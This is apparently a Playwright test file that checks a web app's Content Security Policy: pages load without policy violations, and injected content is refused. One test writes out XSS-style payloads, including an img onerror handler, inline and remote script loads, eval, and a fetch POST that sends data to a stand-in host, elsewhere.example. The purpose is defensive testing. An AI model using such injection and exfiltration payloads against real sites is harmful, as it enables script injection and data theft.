import { expect, type Page, test } from "@playwright/test";
import { catalogue } from "@/lib/words/usual-catalogue";
import { Questionnaire } from "./questionnaire";
import { cancelledTrip } from "./stories";

// The worker has to get along with the policy as well; and a blocked one would say so on the console.
test.use({ serviceWorkers: "allow" });

/** All that the browser refuses, or complains of, from now on. */
async function complaints(page: Page): Promise<string[]> {
  const heard: string[] = [];
  page.on("console", (message) => {
    // Of a page that is not there the browser says so; that is not what is listened for.
    if (["error", "warning"].includes(message.type()) && !/status of 404/.test(message.text())) heard.push(message.text());
  });
  page.on("pageerror", (error) => heard.push(error.message));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI, sample }) =>
      console.error(`refused by ${effectiveDirective}: ${blockedURI} ${sample}`),
    );
  });
  return heard;
}

/** Scripts run here: React has taken the page over, which it says on the elements it has. */
async function expectAlive(page: Page): Promise<void> {
  const isTaken = () => Object.keys(document.querySelector("header a") ?? {}).some((name) => name.startsWith("__reactProps"));
  await expect.poll(() => page.evaluate(isTaken), `scripts run on ${page.url()}`).toBe(true);
}

const [reason] = catalogue.reasons;
const [step] = catalogue.steps;

const paths = [
  "/",
  "/reflect",
  "/reflect/check",
  "/reflect/result",
  "/reflections",
  "/library",
  `/library/reasons/${reason?.id}`,
  `/library/steps/${step?.id}`,
  "/help",
  "/key",
  "/about",
  "/message",
  "/patterns",
  "/reflections/compare",
  "/nowhere",
  "/library/reasons/nowhere",
  "/reflections/00000000-0000-4000-8000-000000000000",
];

test("no page runs into its own content policy, and scripts run on each", async ({ page }) => {
  const heard = await complaints(page);
  for (const path of paths) {
    await page.goto(path);
    await expectAlive(page);
    expect.soft(heard.splice(0), path).toEqual([]);
  }
});

test("nothing of the whole job runs into it: answering, saving, keeping the key, going from page to page", async ({ page }) => {
  const heard = await complaints(page);
  await page.goto("/");
  await page.getByRole("main").getByRole("link", { name: "Begin", exact: true }).first().click();
  const talk = new Questionnaire(page);
  await talk.answerAll(cancelledTrip);
  await talk.seeResult();
  await talk.saving().click();
  await expect(page).toHaveURL(/\/reflections\/[0-9a-f-]{36}$/);
  // Once more as the server draws it, with what was shown then.
  await page.reload();
  await expectAlive(page);
  await page.goto("/key/keep");
  await page.getByRole("button", { name: "Show my key" }).click();
  await expect(page.getByRole("button", { name: "Go on" })).toBeVisible();
  await page.goto("/key");
  await expectAlive(page);
  await page.getByRole("navigation", { name: "More" }).getByRole("link", { name: "Your reflections" }).click();
  await expect(page).toHaveURL(/\/reflections$/);
  expect(heard).toEqual([]);
});

test("the policy holds: what is put into a page does not run, load or send", async ({ page }) => {
  await page.goto("/help");
  await expectAlive(page);
  const done = await page.evaluate(async () => {
    const refused: string[] = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
    const put = (tag: string, what: Record<string, string>) => document.body.append(Object.assign(document.createElement(tag), what));
    const run = "window.ranForeign = true";
    const attempts = [
      () => document.body.insertAdjacentHTML("beforeend", `<img src=x onerror='${run}'>`),
      () => put("script", { textContent: run }),
      () => put("script", { src: "https://elsewhere.example/x.js" }),
      () => put("img", { src: "https://elsewhere.example/?told" }),
      // biome-ignore lint/security/noGlobalEval: it is to be refused
      () => eval(run),
      () => fetch("https://elsewhere.example/", { method: "POST", body: "told" }).catch(() => {}),
    ];
    for (const attempt of attempts) {
      // Later, as the page itself would: what the test runs at once is under no policy.
      setTimeout(() => {
        try {
          attempt();
        } catch {
          // A refusal of the browser is what is wanted; it is also an event.
        }
      });
    }
    const isOver = () => ["connect-src", "img-src", "require-trusted-types-for"].every((name) => refused.includes(name));
    for (let waited = 0; waited < 50 && !isOver(); waited++) await new Promise((later) => setTimeout(later, 50));
    return { refused: [...new Set(refused)].sort(), ran: "ranForeign" in window };
  });
  expect(done.ran).toBe(false);
  expect(done.refused).toEqual(expect.arrayContaining(["connect-src", "img-src", "require-trusted-types-for"]));
});
